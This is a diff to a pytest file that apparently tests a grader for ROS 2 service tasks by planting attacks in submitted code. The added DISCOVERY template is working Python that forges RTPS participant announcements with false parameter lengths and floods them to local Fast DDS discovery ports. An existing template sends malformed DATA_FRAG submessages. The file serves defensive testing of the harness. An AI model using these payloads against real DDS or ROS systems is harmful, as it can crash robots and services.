@@ -1,4 +1,4 @@
-"""A program that speaks RTPS itself brings down the process that hears it, and gains nothing by it.
+"""A program that speaks RTPS itself may bring down the process that hears it, and gains nothing by it.
 
 In Fast DDS 2.14.5 a DATA_FRAG submessage (RTPS 2.3, 9.4.5.4) is believed in what it says of sizes: the list of missing
 fragments is written beyond the end of the sample, and memory is taken for a sample that never comes.
@@ -33,21 +33,66 @@ def attack(node, sizes):
 class Attacker(rclpy.node.Node):
     def __init__(self, *args, **kwargs):
         super().__init__(*args, **kwargs)
-        attack(self, {sizes})
+        attack(self, {how})
 
 """
-SIZES = {
-    "writes beyond a sample": "[(1, 16 * n + 6) for n in range(80, 3000, 97)] + [(5, 101), (5, 151)]",
-    "takes memory for a sample": "[(1024, 200_000_000)]",
+# The announcement of a participant (DATA(p), RTPS 2.3, 8.5.3.2): a list of parameters, of which each says its length.
+# First of hundreds of participants that are not there; then with lengths and contents that lie.
+DISCOVERY = """
+import os, random, socket, struct, time
+import rclpy
+
+def parameter(number, content, length=None):
+    content += bytes(-len(content) % 4)
+    return struct.pack('<HH', number, len(content) if length is None else length) + content
+
+def locator(port):
+    return struct.pack('<iI12x4B', 1, port, 127, 0, 0, 1)
+
+def announcement(prefix, sequence, lie):
+    guid = prefix + bytes([0, 0, 1, 0xc1])
+    said = [(0x15, bytes([2, 3, 0, 0])), (0x16, bytes([1, 15, 0, 0])), (0x50, guid),
+            (0x32, locator(7410)), (0x31, locator(7411)), (0x02, struct.pack('<iI', 100, 0)),
+            (0x58, struct.pack('<I', 0xfc3f)), (0x62, struct.pack('<I', 6) + b'judge' + bytes(3)),
+            (0x2c, struct.pack('<I', 0xffffffff if lie else 4) + b'enc='),
+            (0x59, struct.pack('<I', 2**31 if lie else 0))]
+    body = b''.join(parameter(*each, random.choice((None, None, 0, 3, 65532)) if lie else None) for each in said)
+    body = struct.pack('>HH', 3, 0) + body + struct.pack('<HH', 1, 0)
+    data = struct.pack('<HH4s4siI', 0, 16, bytes(4), bytes([0, 1, 0, 0xc2]), 0, sequence) + body
+    return b'RTPS' + bytes([2, 3, 1, 15]) + prefix + struct.pack('<BBH', 0x15, 5, len(data)) + data
+
+def attack(node, lie):
+    base = 7400 + 250 * int(os.environ['ROS_DOMAIN_ID'])
+    out, end, sequence = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), time.time() + 4, 1
+    random.seed(1)
+    while time.time() < end and sequence < 300:
+        for _ in range(20):
+            prefix = bytes([1, 15]) + random.randbytes(10)
+            for port in (base, base + 10, base + 12, base + 14):
+                out.sendto(announcement(prefix, sequence, lie), ('127.0.0.1', port))
+            sequence += 1
+        rclpy.spin_once(node, timeout_sec=0.01)
+
+class Attacker(rclpy.node.Node):
+    def __init__(self, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        attack(self, {how})
+
+"""
+ATTACKS = {
+    "writes beyond a sample": (ATTACK, "[(1, 16 * n + 6) for n in range(80, 3000, 97)] + [(5, 101), (5, 151)]"),
+    "takes memory for a sample": (ATTACK, "[(1024, 200_000_000)]"),
+    "hundreds of participants": (DISCOVERY, "False"),
+    "announcements that lie": (DISCOVERY, "True"),
 }
 
 
-def attacking(sizes: str) -> dict[str, bytes]:
+def attacking(attack: str, how: str) -> dict[str, bytes]:
     """The right answer, but that each of its nodes attacks before it does anything else."""
     text = REFERENCE["motor_service.py"].decode()
     assert "(Node)" in text
     head = (
-        ATTACK.replace("{sizes}", sizes)
+        attack.replace("{how}", how)
         .replace("rclpy.node.Node", "Node")
         .replace("import rclpy\n", "import rclpy\nfrom rclpy.node import Node\n", 1)
     )
@@ -57,11 +102,11 @@ def attacking(sizes: str) -> dict[str, bytes]:
 @pytest.fixture(scope="module")
 def reports(grade):
     """The gradings, all begun at once, with an honest one among them."""
-    begun = {name: grade(attacking(sizes), "services") for name, sizes in SIZES.items()}
+    begun = {name: grade(attacking(*attack), "services") for name, attack in ATTACKS.items()}
     return begun | {"honest": grade(REFERENCE, "services")}
 
 
-@pytest.mark.parametrize("name", SIZES)
+@pytest.mark.parametrize("name", ATTACKS)
 def test_it_is_judged(reports, name):
     """Whether its judge outlives it is a matter of luck and of Fast DDS's version: it is judged in either case."""
     report = reports[name].result()
